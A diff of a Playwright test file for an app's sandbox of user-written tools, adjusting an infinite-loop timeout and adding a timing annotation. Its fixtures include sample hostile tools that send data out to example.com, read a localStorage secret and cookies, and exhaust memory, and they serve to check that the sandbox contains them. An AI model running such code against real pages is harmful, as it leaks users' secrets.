@@ -112,7 +112,7 @@ test.describe('tools written in the app', () => {
         { name: 'try_fetch', description: 'Sends data out.', parameters: noArguments, code: 'return await fetch("https://example.com/?leak=1")' },
         { name: 'read_page', description: 'Reads the page.', parameters: noArguments, code: 'return globalThis.localStorage.getItem("plugboard:secret-for-test") + globalThis.document.cookie' },
         { name: 'grab_memory', description: 'Takes 1 GB.', parameters: noArguments, code: 'const block = new Uint8Array(1024 * 1024 * 1024); return block.length' },
-        { name: 'spin_forever', description: 'Never ends.', parameters: noArguments, code: 'for (;;) {}', timeoutMs: 4000 },
+        { name: 'spin_forever', description: 'Never ends.', parameters: noArguments, code: 'for (;;) {}', timeoutMs: 10_000 },
       ],
     }
     await openYourTools(page)
@@ -148,13 +148,16 @@ test.describe('tools written in the app', () => {
     await expect(spinning).toHaveAttribute('data-status', 'running', { timeout: 20_000 })
     // The loop runs in its worker: the page answers script and clicks while it spins.
     expect(await page.evaluate(() => document.querySelector('[data-testid="tool-card"][data-tool="spin_forever"]')?.getAttribute('data-status'))).toBe('running')
+    const clickedAt = Date.now()
     await page.getByTestId('tool-popover-trigger').click()
     await expect(page.getByTestId('tool-switch-spin_forever')).toBeVisible()
+    // A figure for the record, not an assertion: how long the popover took to open while the loop ran.
+    test.info().annotations.push({ type: 'popover opened while spinning (ms)', description: String(Date.now() - clickedAt) })
     await expect(spinning).toHaveAttribute('data-status', 'running')
     await page.keyboard.press('Escape')
 
     await expect(spinning).toHaveAttribute('data-status', 'error', { timeout: 20_000 })
-    await expect(spinning.getByTestId('tool-summary')).toContainText('ran past its time limit of 4000 ms and was stopped')
+    await expect(spinning.getByTestId('tool-summary')).toContainText('ran past its time limit of 10000 ms and was stopped')
     await waitForIdle(page)
 
     // The tools still work afterwards and the page's data was never reachable.
